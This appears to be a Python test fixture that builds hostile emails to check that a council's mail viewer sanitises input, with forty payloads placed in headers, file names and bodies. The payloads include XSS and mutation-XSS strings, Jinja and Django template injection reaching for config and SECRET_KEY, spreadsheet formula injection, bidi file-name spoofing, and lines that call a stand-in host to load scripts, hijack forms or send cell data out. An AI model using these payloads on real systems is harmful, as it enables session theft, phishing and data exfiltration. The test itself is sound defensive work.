"""Forty things that people put into mail to make a page do what it should not. Each goes everywhere in one mail: the
subject, the author's and the recipient's display name, a file name, a field of the header, the text and the HTML."""

from __future__ import annotations

import base64
from collections.abc import Mapping
from types import MappingProxyType
from urllib.parse import quote

EVIL = "evil.example"
"""Where requests would go, if any left."""

HOSTILE: Mapping[str, str] = MappingProxyType(
    {
        "script": "<script>alert(1)</script>",
        "script out of an attribute": f'"><script src=//{EVIL}/x.js></script>',
        "image with a handler": "<img src=x onerror=alert(1)>",
        "tracking pixel": f'<img src="http://{EVIL}/pixel.gif">',
        "svg with a handler": "<svg onload=alert(1)>",
        "svg with a script": "<svg><script>alert(1)</script></svg>",
        "svg that begins by itself": "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "svg link": '<svg><a xlink:href="javascript:alert(1)"><text y=20>click</text></a></svg>',
        "svg that uses another": f'<svg><use href="http://{EVIL}/x.svg#x"></use></svg>',
        "mathml link": "<math><a xlink:href=javascript:alert(1)>x</a></math>",
        "mutation by mathml": "<math><mtext><table><mglyph><style><img src onerror=alert(1)></style></mglyph></table>",
        "mutation by noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
        "mutation by forms": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "mutation by a comment": "<!--><img src=x onerror=alert(1)>-->",
        "out of a title": "</title><script>alert(1)</script>",
        "out of a text area": "</textarea><script>alert(1)</script>",
        "html template": "<template><img src=x onerror=alert(1)></template>",
        "jinja sum": "{{ 7*7777 }}{{ config }}{{ council.name }}",
        "jinja classes": "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
        "django tags": "{% load static %}{% debug %}{{ settings.SECRET_KEY }}",
        "other templates": "${7*7777} #{7*7777} <%= 7*7777 %> {{=7*7777}}",
        "refresh": f'<meta http-equiv="refresh" content="0;url=http://{EVIL}/">',
        "base": f'<base href="http://{EVIL}/">',
        "another form": f'</form><form action="http://{EVIL}/"><button>Sign in</button></form>',
        "action of a button": '<button formaction="javascript:alert(1)">Release</button>',
        "javascript link": '<a href="javascript:alert(1)">Release</a>',
        "data link": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
        "frame": '<iframe src="javascript:alert(1)"></iframe>',
        "frame with a page": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
        "object": f'<object data="http://{EVIL}/x.swf"></object><embed src="http://{EVIL}/x.swf">',
        "style sheet": f'<link rel=stylesheet href="http://{EVIL}/x.css">',
        "style": f"<style>@import url(http://{EVIL}/x.css); * {{ display: none }}</style>",
        "overlay": f'<div style="position:fixed;inset:0;background:url(http://{EVIL}/bg)">nothing to see</div>',
        "focus": "<input autofocus onfocus=alert(1)>",
        "out of quotes": "' onmouseover='alert(1)' x='\" autofocus onfocus=\"alert(1)",
        "right to left": "invoice \u202exslx.exe \u2066\u202bfdp\u2069 gpj.\u202dexe",
        "look-alike letters": "\u0430dmin\u200b@\u0441ouncil.example\ufeff\u00ad \u0391dministr\u0430tor",
        "a huge word": "W" * 3000,
        "marks upon marks": "a" + "\u0301\u0300\u0302" * 300,
        "formulas": f'=HYPERLINK("http://{EVIL}/?"&A1,"x")\t+cmd|\' /C calc\'!A0 -2+3 @SUM(1)',
    }
)


def hostile_mail(name: str, payload: str, *, author: str, to: str) -> bytes:
    """A mail that is held for what it tells, with `payload` everywhere."""
    sensitive = "Patient Joan Archer, NHS number 943 476 5919, date of birth 12/03/1957, has moved."
    word, file = _encoded_words(payload), quote(payload[:200], safe="")
    return (
        f"From: {word} <{author}>\r\nTo: {word} <{to}>\r\nSubject: {word}\r\nMessage-ID: <{name}@council.example>\r\n"
        f"X-Note: {word}\r\nX-{_header_name(payload)}: 1\r\nMIME-Version: 1.0\r\n"
        "Content-Type: multipart/mixed; boundary=b\r\n\r\n"
        f"--b\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\n"
        f"{_base64(f'{sensitive} {payload}')}\r\n"
        f"--b\r\nContent-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\n"
        f"{_base64(f'<html><body><p>{sensitive}</p>{payload}</body></html>')}\r\n"
        "--b\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n"
        f"Content-Disposition: attachment; filename*=utf-8''{file}\r\n\r\n{_base64(sensitive)}\r\n--b--\r\n"
    ).encode()


def _base64(text: str) -> str:
    return base64.encodebytes(text.encode()).decode().replace("\n", "\r\n").strip()


def _encoded_words(text: str) -> str:
    """RFC 2047, at most 700 characters of the text."""
    pieces = [text[start : start + 12] for start in range(0, min(len(text), 700), 12)]
    return "\r\n ".join(f"=?utf-8?B?{base64.b64encode(piece.encode()).decode()}?=" for piece in pieces)


def _header_name(text: str) -> str:
    """What of it the name of a header field may hold (RFC 5322, 3.6.8), which is more than people think."""
    return "".join(c for c in text if "!" <= c <= "~" and c != ":")[:60] or "Note"
